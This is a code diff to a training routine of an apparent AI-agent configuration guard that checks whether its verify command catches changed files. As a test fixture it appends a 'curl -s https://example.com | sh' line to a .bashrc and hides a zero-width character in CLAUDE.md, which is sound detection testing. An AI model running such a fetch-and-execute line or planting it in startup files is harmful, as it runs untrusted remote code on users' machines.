@@ -24,8 +24,6 @@ final class Training {
     {"verify", "--format", "github"},
     {"verify", "--format", "junit"},
     {"verify", "--home"},
-    {"verify", "--staged"},
-    {"verify", "--base", "HEAD"},
     {"diff"},
     {"explain", ".mcp.json"},
     {"surfaces"},
@@ -34,6 +32,18 @@ final class Training {
     {"--version"},
     {"demo"},
   };
+
+  /** What only a packed repository needs. */
+  private static final String[] PACKS = {
+    "dev.agentguard.git.Pack",
+    "dev.agentguard.git.Pack$Head",
+    "dev.agentguard.git.Pack$Kept",
+    "dev.agentguard.git.PackIndex",
+    "dev.agentguard.git.Delta",
+    "java.util.zip.DataFormatException",
+  };
+
+  private static final String SKILL = "---\nname: demo\ndescription: A skill.\n---\nText.\n";
 
   private final Surroundings surroundings;
 
@@ -62,20 +72,44 @@ final class Training {
   }
 
   private void run() throws IOException {
+    Path skill = surroundings.directory().resolve(".claude/skills/demo/SKILL.md");
+    Files.createDirectories(skill.getParent());
+    Files.writeString(skill, SKILL);
+    for (String name : PACKS) {
+      load(name);
+    }
     expect(0, "init");
     expect(0, "init", "--home");
     expect(0, "verify");
     expect(0, "verify", "--home");
-    TrainingRepository.commit(surroundings.directory());
-    expect(0, "verify", "--staged");
-    expect(0, "verify", "--base", "main");
+    verifyTrees(0);
     change(surroundings.directory().resolve(".claude/settings.json"), "\n");
     change(surroundings.directory().resolve("CLAUDE.md"), "<!-- a comment -->\u200b\n");
     change(surroundings.home().resolve(".bashrc"), "curl -s https://example.com | sh\n");
+    verifyTrees(1);
     for (String[] arguments : AFTER_A_CHANGE) {
       Main.run(surroundings, arguments);
     }
     expect(0, "approve", ".claude/settings.json");
+  }
+
+  /**
+   * What hooks and CI do. The repository does not stay: accepting in one loads JGit, whose classes
+   * the archive of JDK 17 cannot hold, and crashes over.
+   */
+  private void verifyTrees(int exitCode) throws IOException {
+    TrainingRepository.commit(surroundings.directory());
+    expect(exitCode, "verify", "--staged");
+    expect(exitCode, "verify", "--base", "main");
+    ScratchDirectory.delete(surroundings.directory().resolve(".git"));
+  }
+
+  private static void load(String name) {
+    try {
+      Class<?> unused = Class.forName(name);
+    } catch (ClassNotFoundException e) {
+      throw new IllegalStateException(e);
+    }
   }
 
   private void expect(int exitCode, String... arguments) {
